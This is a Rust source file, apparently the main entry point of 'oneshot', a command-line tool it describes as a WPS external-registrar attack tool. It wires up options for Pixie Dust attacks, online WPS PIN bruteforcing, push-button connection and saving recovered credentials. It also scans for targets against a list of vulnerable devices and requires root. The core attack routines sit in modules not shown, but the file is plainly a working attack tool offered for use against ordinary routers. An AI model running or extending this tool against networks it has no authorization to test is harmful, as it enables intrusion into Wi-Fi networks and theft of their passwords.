use std::fs;
use std::os::unix::fs::{FileTypeExt, PermissionsExt};
use std::path::Path;
use std::process::{Command, exit};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use clap::Parser;
use colored::Colorize;
use inquire::Confirm;

use oneshot::scanner::WifiScanner;
use oneshot::session::Session;
use oneshot::storage::{Storage, read_stored_pairs};
use oneshot::{Error, Result};

const MTK_WIFI_DEVICE: &str = "/dev/wmtWifi";

#[derive(Parser)]
#[clap(name = "oneshot")]
#[clap(about = "WPS external-registrar attack tool: Pixie Dust, online PIN bruteforce and known-PIN connection")]
struct Cli {
    /// Name of the interface to use
    #[clap(short, long)]
    interface: String,
    /// BSSID of the target AP
    #[clap(short, long)]
    bssid: Option<String>,
    /// Use the specified pin (arbitrary string or 4/8 digit pin)
    #[clap(short, long)]
    pin: Option<String>,
    /// Run Pixie Dust attack
    #[clap(short = 'K', long)]
    pixie_dust: bool,
    /// Run Pixiewps with --force option (bruteforce full range)
    #[clap(short = 'F', long)]
    pixie_force: bool,
    /// Always print Pixiewps command
    #[clap(short = 'X', long)]
    show_pixie_cmd: bool,
    /// Run online bruteforce attack
    #[clap(short = 'B', long)]
    bruteforce: bool,
    /// Run WPS push button connection
    #[clap(long = "pbc", alias = "push-button-connect")]
    pbc: bool,
    /// Set the delay between pin attempts
    #[clap(short, long)]
    delay: Option<f64>,
    /// Write credentials to the file on success
    #[clap(short = 'w', long)]
    write: bool,
    /// Down network interface when the work is finished
    #[clap(long)]
    iface_down: bool,
    /// Use custom file with vulnerable devices list
    #[clap(long, default_value = "vulnwsc.txt")]
    vuln_list: String,
    /// Run in a loop
    #[clap(short = 'l', long = "loop")]
    loop_mode: bool,
    /// Reverse order of networks in the list. Useful on small displays
    #[clap(short, long)]
    reverse_scan: bool,
    /// Activate MediaTek Wi-Fi interface driver on startup and deactivate
    /// it on exit (for internal adapters in MediaTek SoCs)
    #[clap(long)]
    mtk_wifi: bool,
    /// Verbose output
    #[clap(short, long)]
    verbose: bool,
}

fn main() {
    let args = Cli::parse();

    if unsafe { libc::getuid() } != 0 {
        die("Run it as root");
    }

    if args.mtk_wifi {
        if let Err(err) = set_mtk_wifi(true) {
            die(&format!(
                "Unable to activate MediaTek Wi-Fi interface device (--mtk-wifi): {err}"
            ));
        }
    }

    if !iface_up(&args.interface, false) {
        die(&format!("Unable to up interface \"{}\"", args.interface));
    }

    let interrupted = Arc::new(AtomicBool::new(false));
    {
        let flag = interrupted.clone();
        ctrlc::set_handler(move || flag.store(true, Ordering::Relaxed))
            .expect("install interrupt handler");
    }

    let code = match run(&args, &interrupted) {
        Ok(()) => 0,
        Err(err) => {
            eprintln!("{}", format!("[!] {err}").red());
            1
        }
    };

    if args.iface_down {
        iface_up(&args.interface, true);
    }
    if args.mtk_wifi {
        let _ = set_mtk_wifi(false);
    }
    exit(code);
}

fn run(args: &Cli, interrupted: &Arc<AtomicBool>) -> Result<()> {
    let mut bssid = args.bssid.clone();
    loop {
        match run_once(args, &mut bssid, interrupted) {
            Ok(()) => {
                if !args.loop_mode {
                    return Ok(());
                }
                bssid = None;
            }
            Err(Error::UserAbort) => {
                interrupted.store(false, Ordering::Relaxed);
                if !args.loop_mode {
                    return Ok(());
                }
                let leave = Confirm::new("Exit the script (otherwise continue to AP scan)?")
                    .with_default(false)
                    .prompt()
                    .unwrap_or(true);
                if leave {
                    println!("Aborting…");
                    return Ok(());
                }
                bssid = None;
            }
            Err(err) => return Err(err),
        }
    }
}

fn run_once(args: &Cli, bssid: &mut Option<String>, interrupted: &Arc<AtomicBool>) -> Result<()> {
    if args.pbc {
        let mut session = Session::new(&args.interface, args.write, args.verbose, interrupted.clone())?;
        let result = session.single_connection(None, None, false, true, false, false, false);
        session.close();
        return result.map(|_| ());
    }

    if bssid.is_none() {
        if !args.loop_mode {
            println!("[*] BSSID not specified (--bssid) — scanning for available networks");
        }
        let stored = Storage::open()
            .map(|storage| read_stored_pairs(&storage.stored_report_path()))
            .unwrap_or_default();
        let scanner = WifiScanner::new(&args.interface, load_vuln_list(&args.vuln_list), stored);
        match scanner.prompt_network(args.reverse_scan)? {
            Some(chosen) => *bssid = Some(chosen),
            None => return Ok(()),
        }
    }
    let target = bssid.clone().unwrap_or_default();

    let mut session = Session::new(&args.interface, args.write, args.verbose, interrupted.clone())?;
    let result = if args.bruteforce {
        session.smart_bruteforce(&target, args.pin.as_deref(), args.delay)
    } else {
        session
            .single_connection(
                Some(&target),
                args.pin.clone(),
                args.pixie_dust,
                false,
                args.show_pixie_cmd,
                args.pixie_force,
                false,
            )
            .map(|_| ())
    };
    session.close();
    result
}

fn load_vuln_list(path: &str) -> Vec<String> {
    fs::read_to_string(path)
        .map(|content| content.lines().map(str::to_string).collect())
        .unwrap_or_default()
}

fn iface_up(interface: &str, down: bool) -> bool {
    let action = if down { "down" } else { "up" };
    Command::new("ip")
        .args(["link", "set", interface, action])
        .status()
        .map(|status| status.success())
        .unwrap_or(false)
}

fn set_mtk_wifi(on: bool) -> std::io::Result<()> {
    let device = Path::new(MTK_WIFI_DEVICE);
    let file_type = fs::metadata(device)?.file_type();
    if !file_type.is_char_device() {
        return Err(std::io::Error::other(format!(
            "{MTK_WIFI_DEVICE} does not exist or it is not a character device"
        )));
    }
    if on {
        let mut permissions = fs::metadata(device)?.permissions();
        permissions.set_mode(0o644);
        fs::set_permissions(device, permissions)?;
    }
    fs::write(device, if on { "1" } else { "0" })
}

fn die(message: &str) -> ! {
    eprintln!("{message}");
    exit(1);
}
